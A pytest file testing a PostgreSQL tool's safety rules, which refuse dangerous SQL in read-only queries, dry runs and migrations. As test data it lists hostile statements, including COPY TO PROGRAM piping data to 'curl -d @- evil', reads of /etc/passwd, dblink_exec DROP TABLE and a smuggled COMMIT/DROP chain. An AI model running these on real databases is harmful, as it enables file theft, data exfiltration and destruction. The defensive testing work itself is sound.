"""Safety rules over PostgreSQL's parse tree: read-only queries, dry runs on the real target, and migrations.

The rules are pure; the function policy they use is loaded from the real `pg_proc` of PostgreSQL 15 and 18 (with
dblink installed, as an extension that reaches outside the database).
"""

from __future__ import annotations

import asyncio

import asyncpg
import pytest
from conftest import corpus_root, create_database, drop_database

from pgshift.tools.localpg import LocalPostgres
from pgshift.tools.migrations.parse import SqlStatement, split_statements
from pgshift.tools.safety import (
    FUNCTION_POLICY_SQL,
    HARMLESS_EXTENSION_VOLATILE,
    HARMLESS_VOLATILE,
    OUTSIDE_EXTENSIONS,
    FunctionPolicy,
    apply_refusal,
    dry_run_refusal,
    functions_called,
    load_function_policy,
    read_only_refusal,
)

CORPUS = corpus_root()
BEGIN_ATOMIC_ATTACK = "CREATE VIEW v AS SELECT begin atomic FROM (SELECT 1 AS begin) s; COMMIT; DROP TABLE victim"


async def _policy(server: LocalPostgres) -> tuple[FunctionPolicy, int]:
    """The policy of a fresh database with dblink installed, and the number of names refused without it."""
    url = await create_database(server, "policy")
    try:
        conn = await asyncpg.connect(url)
        try:
            bare = await conn.fetch(
                FUNCTION_POLICY_SQL,
                list(HARMLESS_VOLATILE),
                list(HARMLESS_EXTENSION_VOLATILE),
                list(OUTSIDE_EXTENSIONS),
            )
            await conn.execute("CREATE EXTENSION dblink")
            return await load_function_policy(conn), len(bare)
        finally:
            await conn.close()
    finally:
        await drop_database(server, url)


@pytest.fixture(scope="module", params=["pg18", "pg15"])
def policy_and_size(request: pytest.FixtureRequest) -> tuple[FunctionPolicy, int]:
    server: LocalPostgres = request.getfixturevalue(request.param)
    return asyncio.run(_policy(server))


@pytest.fixture
def policy(policy_and_size: tuple[FunctionPolicy, int]) -> FunctionPolicy:
    return policy_and_size[0]


def _one(sql: str) -> SqlStatement:
    (statement,) = split_statements(sql)
    return statement


# ---------------------------------------------------------------------------------------------------------------
# The policy

READ_ONLY_ATTACKS = {
    "COPY to a program runs a shell command": "COPY (SELECT 1) TO PROGRAM 'id'",
    "COPY to a server file writes a file": "COPY t TO '/tmp/x'",
    "pg_read_file reads server files": "SELECT pg_read_file('/etc/passwd')",
    "pg_read_file qualified with pg_catalog": "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    "pg_terminate_backend kills other sessions": "SELECT pg_terminate_backend(123)",
    "pg_cancel_backend in a WHERE clause": "SELECT 1 FROM pg_stat_activity WHERE pg_cancel_backend(pid)",
    "pg_reload_conf reloads the configuration": "SELECT pg_reload_conf()",
    "pg_stat_reset resets statistics": "SELECT pg_stat_reset()",
    "pg_switch_wal switches WAL files": "SELECT pg_switch_wal()",
    "CHECKPOINT acts on the server": "CHECKPOINT",
    "LOCK blocks other sessions": "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
    "dblink_exec runs SQL on another connection": "SELECT dblink_exec('dbname=x', 'DROP TABLE t')",
    "dblink in FROM runs SQL elsewhere": "SELECT * FROM dblink('dbname=x', 'DELETE FROM t RETURNING 1') AS r(i int)",
    "pg_ls_dir in FROM lists server directories": "SELECT * FROM pg_ls_dir('.')",
    "set_config changes the session role": "SELECT set_config('role', 'x', false)",
    "a refused call hidden in a scalar subquery": "SELECT (SELECT pg_sleep(10))",
    "nextval advances a sequence outside the transaction": "SELECT nextval('s')",
    "pg_advisory_lock holds a session lock": "SELECT pg_advisory_lock(1)",
    "lo_import reads a server file": "SELECT lo_import('/etc/passwd')",
    "pg_notify signals other sessions": "SELECT pg_notify('c', 'x')",
    "a data-modifying CTE deletes rows": "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
    "EXPLAIN ANALYZE runs the DELETE": "EXPLAIN ANALYZE DELETE FROM t",
    "EXPLAIN ANALYZE of a refused call": "EXPLAIN (ANALYZE) SELECT pg_reload_conf()",
    "SELECT INTO creates a table": "SELECT * INTO newt FROM t",
    "FOR UPDATE locks rows": "SELECT * FROM t FOR UPDATE",
    "FOR SHARE in a subquery locks rows": "SELECT * FROM (SELECT * FROM t FOR SHARE) s",
    "PREPARE TRANSACTION": "PREPARE TRANSACTION 'x'",
    "COMMIT ends the read-only transaction": "COMMIT",
    "SET changes the session": "SET role postgres",
    "RESET changes the session": "RESET ALL",
    "LISTEN": "LISTEN c",
    "NOTIFY": "NOTIFY c",
    "DO runs code": "DO $$ BEGIN END $$",
    "CALL runs a procedure": "CALL p()",
    "PREPARE leaves a statement behind": "PREPARE q AS SELECT 1",
    "EXECUTE runs unchecked text": "EXECUTE q",
    "DECLARE opens a cursor": "DECLARE c CURSOR FOR SELECT 1",
    "FETCH reads a cursor": "FETCH 1 FROM c",
    "INSERT writes": "INSERT INTO t VALUES (1)",
    "CREATE TABLE AS writes": "CREATE TABLE x AS SELECT 1",
}

READS = {
    "a plain SELECT": "SELECT 1",
    "a join with aggregates": "SELECT a.id, count(*) FROM a JOIN b ON b.a_id = a.id GROUP BY a.id",
    "a read-only CTE": "WITH x AS (SELECT 1 AS i) SELECT * FROM x",
    "VALUES": "VALUES (1), (2)",
    "TABLE": "TABLE t",
    "SHOW": "SHOW search_path",
    "EXPLAIN of a DELETE without ANALYZE runs nothing": "EXPLAIN DELETE FROM t",
    "EXPLAIN ANALYZE of a SELECT": "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM t",
    "EXPLAIN with ANALYZE false of an INSERT": "EXPLAIN (ANALYZE false) INSERT INTO t VALUES (1)",
    "harmless volatile built-ins": "SELECT random(), clock_timestamp(), gen_random_uuid()",
    "sizes of relations": "SELECT pg_size_pretty(pg_total_relation_size('t'))",
    "catalog reads with stable functions": "SELECT now(), current_setting('search_path'), pg_get_viewdef('v')",
    "jsonb operators": "SELECT doc ->> 'a' FROM t WHERE doc @> '{\"a\": 1}'",
    "a set-returning function in FROM": "SELECT * FROM generate_series(1, 3) g, unnest(ARRAY[1]) u",
    "system views": "SELECT * FROM pg_stat_activity WHERE state = 'active'",
}


@pytest.mark.parametrize("sql", READ_ONLY_ATTACKS.values(), ids=READ_ONLY_ATTACKS.keys())
def test_read_only_mode_refuses_each_attack_with_a_reason(sql: str, policy: FunctionPolicy) -> None:
    reason = read_only_refusal(_one(sql), policy)
    assert reason is not None
    assert reason.startswith("Refused in read-only mode: ") and reason.endswith(".")


@pytest.mark.parametrize("sql", READS.values(), ids=READS.keys())
def test_read_only_mode_allows_ordinary_reads(sql: str, policy: FunctionPolicy) -> None:
    assert read_only_refusal(_one(sql), policy) is None


def test_a_second_command_after_a_read_is_its_own_statement_and_is_refused(policy: FunctionPolicy) -> None:
    first, second = split_statements("SELECT 1; COMMIT")
    assert read_only_refusal(first, policy) is None
    assert read_only_refusal(second, policy) is not None


def test_the_refusal_names_the_function_that_was_refused(policy: FunctionPolicy) -> None:
    reason = read_only_refusal(_one("SELECT length(pg_read_file('/etc/passwd'))"), policy)
    assert reason is not None and "pg_read_file()" in reason


def test_the_policy_refuses_privileged_volatile_and_outside_functions_from_pg_proc(
    policy_and_size: tuple[FunctionPolicy, int],
) -> None:
    policy, size = policy_and_size
    for name in ("pg_read_file", "pg_ls_dir", "pg_reload_conf", "pg_stat_reset", "pg_switch_wal", "lo_export"):
        assert policy.refuses(name, None) and policy.refuses(name, "pg_catalog"), name
    for name in ("pg_terminate_backend", "set_config", "nextval", "pg_sleep", "dblink_connect", "dblink_exec"):
        assert policy.refuses(name, None), name
    assert policy.refuses("dblink_exec", "public")
    for name in ("random", "clock_timestamp", "gen_random_uuid", "now", "lower", "count", "pg_total_relation_size"):
        assert not policy.refuses(name, None), name
    assert not policy.refuses("pg_read_file", "other_schema")
    assert 150 < size < 400  # 206 names on PostgreSQL 15.18, 227 on 18.6, before any extension


def test_the_policy_from_rows_matches_names_case_insensitively() -> None:
    policy = FunctionPolicy.from_rows([{"schema": "Ext", "name": "Danger"}])
    assert policy.refused == frozenset({"danger", "ext.danger"})
    assert policy.refuses("DANGER", None) and policy.refuses("danger", "EXT")
    assert not policy.refuses("danger", "public")


def test_functions_called_finds_calls_everywhere_in_the_tree() -> None:
    node = _one(
        "SELECT f(1), s.g() FROM h() AS x WHERE EXISTS (SELECT k()) AND a OPERATOR(myschema.===) b ORDER BY m()"
    ).node
    assert functions_called(node) == {
        (None, "f"),
        ("s", "g"),
        (None, "h"),
        (None, "k"),
        (None, "m"),
        ("myschema", "==="),
    }


# ---------------------------------------------------------------------------------------------------------------
# Dry run on the real target

DRY_RUN_ATTACKS = {
    "COMMIT": "COMMIT",
    "END": "END",
    "ROLLBACK": "ROLLBACK",
    "ABORT": "ABORT",
    "SAVEPOINT": "SAVEPOINT s",
    "RELEASE SAVEPOINT": "RELEASE SAVEPOINT s",
    "ROLLBACK TO SAVEPOINT": "ROLLBACK TO SAVEPOINT s",
    "PREPARE TRANSACTION": "PREPARE TRANSACTION 'x'",
    "COMMIT PREPARED": "COMMIT PREPARED 'x'",
    "ROLLBACK PREPARED": "ROLLBACK PREPARED 'x'",
    "COPY to a program": "COPY (SELECT 1) TO PROGRAM 'id'",
    "COPY from a server file": "COPY t FROM '/etc/passwd'",
    "ALTER SYSTEM": "ALTER SYSTEM SET work_mem = '1GB'",
    "CHECKPOINT": "CHECKPOINT",
    "LOAD": "LOAD 'auto_explain'",
    "IMPORT FOREIGN SCHEMA": "IMPORT FOREIGN SCHEMA public FROM SERVER remote INTO local",
    "CREATE SUBSCRIPTION": "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p WITH (create_slot = false)",
    "PREPARE outlives the rollback": "PREPARE q AS SELECT 1",
    "SET SESSION AUTHORIZATION": "SET SESSION AUTHORIZATION postgres",
    "a refused call in an UPDATE": "UPDATE t SET a = pg_terminate_backend(123)",
    "setval, which no rollback undoes": "SELECT setval('s', 100)",
    "dblink_exec in a DO block": "DO $$ BEGIN PERFORM dblink_exec('dbname=x', 'DROP TABLE t'); END $$",
    "COMMIT in a DO block": "DO $$ BEGIN CREATE TABLE a (); COMMIT; END $$",
    "dynamic EXECUTE of a computed string": "DO $$ DECLARE q text := 'DROP TABLE t'; BEGIN EXECUTE q; END $$",
    "dynamic EXECUTE of format()": "DO $$ BEGIN EXECUTE format('SELECT %s', 'pg_reload_conf()'); END $$",
    "a constant EXECUTE that copies to a program": "DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''id'''; END $$",
    "a refused call in an assignment": "DO $$ DECLARE x int; BEGIN x := pg_cancel_backend(1)::int; END $$",
    "a refused call in an IF condition": "DO $$ BEGIN IF pg_reload_conf() THEN NULL; END IF; END $$",
    "a DO block in another language": "DO LANGUAGE plpython3u $$ import os $$",
    "a PL/pgSQL function body calling a refused function": (
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM pg_reload_conf(); END $$"
    ),
    "a trigger function running dynamic SQL": (
        "CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN EXECUTE NEW.cmd; RETURN NEW; END $$"
    ),
    "an SQL function body in a string": (
        "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT set_config('role', 'x', false) $$"
    ),
    "a BEGIN ATOMIC body": "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT pg_switch_wal(); END",
    "a procedure that commits": "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN COMMIT; END $$",
    "a C function": "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil', 'f'",
}

MIGRATIONS = {
    "a table with defaults": (
        "CREATE TABLE t (id uuid PRIMARY KEY DEFAULT gen_random_uuid(), at timestamptz NOT NULL DEFAULT now())"
    ),
    "a column, an index and a constraint": "ALTER TABLE t ADD COLUMN n int NOT NULL DEFAULT 0",
    "an index": "CREATE INDEX t_n ON t (lower(name))",
    "a policy": "CREATE POLICY p ON t USING (owner = auth.uid())",
    "data fixes": "UPDATE t SET name = trim(name) WHERE name <> trim(name)",
    "an insert": "INSERT INTO t (id, name) VALUES (gen_random_uuid(), 'x') ON CONFLICT DO NOTHING",
    "a trigger function": (
        "CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); "
        "RETURN NEW; END $$"
    ),
    "a guarded enum in a DO block": (
        "DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'mood') THEN "
        "CREATE TYPE mood AS ENUM ('a'); END IF; END $$"
    ),
    "a constant EXECUTE": "DO $$ BEGIN EXECUTE 'CREATE TABLE x (id int)'; END $$",
    "an SQL function": "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT a + b'",
    "a SET LOCAL": "SET LOCAL lock_timeout = '1s'",
}


@pytest.mark.parametrize("sql", DRY_RUN_ATTACKS.values(), ids=DRY_RUN_ATTACKS.keys())
def test_a_dry_run_on_the_real_target_refuses_each_attack_with_a_reason(sql: str, policy: FunctionPolicy) -> None:
    reason = dry_run_refusal(_one(sql), policy)
    assert reason is not None
    assert reason.startswith("Not dry-run on the real database: ") and reason.endswith(".")


@pytest.mark.parametrize("sql", MIGRATIONS.values(), ids=MIGRATIONS.keys())
def test_a_dry_run_allows_ordinary_migration_statements(sql: str, policy: FunctionPolicy) -> None:
    assert dry_run_refusal(_one(sql), policy) is None


def test_the_begin_atomic_attack_leaves_its_commit_to_be_refused(policy: FunctionPolicy) -> None:
    view, commit, drop = split_statements(BEGIN_ATOMIC_ATTACK)
    assert dry_run_refusal(view, policy) is None
    assert dry_run_refusal(commit, policy) is not None
    assert drop.text == "DROP TABLE victim"


def test_dynamic_sql_is_reported_as_unverifiable_so_the_caller_can_use_a_shadow_database(
    policy: FunctionPolicy,
) -> None:
    reason = dry_run_refusal(_one("DO $$ BEGIN EXECUTE 'SELECT ' || 1; END $$"), policy)
    assert reason is not None and "shadow database" in reason


# ---------------------------------------------------------------------------------------------------------------
# Apply

APPLY_FORBIDDEN = {
    "PREPARE TRANSACTION": "PREPARE TRANSACTION 'x'",
    "COMMIT PREPARED": "COMMIT PREPARED 'x'",
    "ROLLBACK PREPARED": "ROLLBACK PREPARED 'x'",
    "COPY to a program": "COPY t TO PROGRAM 'curl -d @- evil'",
    "COPY from a server file": "COPY t FROM '/etc/passwd'",
    "SET SESSION AUTHORIZATION": "SET SESSION AUTHORIZATION postgres",
    "COPY to a program inside a DO block": "DO $$ BEGIN EXECUTE 'COPY t TO PROGRAM ''id'''; END $$",
}

APPLY_ALLOWED = {
    "the author's BEGIN": "BEGIN",
    "the author's COMMIT": "COMMIT",
    "a table": "CREATE TABLE t (id int)",
    "COPY from the client": "COPY t FROM STDIN",
    "SET ROLE": "SET ROLE postgres",
    "dynamic SQL (checked only for dry runs)": "DO $$ DECLARE q text := 'SELECT 1'; BEGIN EXECUTE q; END $$",
}


@pytest.mark.parametrize("sql", APPLY_FORBIDDEN.values(), ids=APPLY_FORBIDDEN.keys())
def test_a_migration_may_never_contain(sql: str) -> None:
    reason = apply_refusal(_one(sql))
    assert reason is not None and reason.startswith("A migration may not contain this: ")


@pytest.mark.parametrize("sql", APPLY_ALLOWED.values(), ids=APPLY_ALLOWED.keys())
def test_a_migration_may_contain(sql: str) -> None:
    assert apply_refusal(_one(sql)) is None


CHAINS = sorted(CORPUS.glob("prisma/*/migrations/*/migration.sql")) + sorted(
    CORPUS.glob("supabase/*/supabase/migrations/*.sql")
)


def test_no_migration_of_the_corpus_chains_is_refused_for_apply() -> None:
    if not CHAINS:
        pytest.skip(f"shared corpus not found at {CORPUS}")
    refused = [(p.name, s.line) for p in CHAINS for s in split_statements(p.read_text()) if apply_refusal(s)]
    assert refused == []
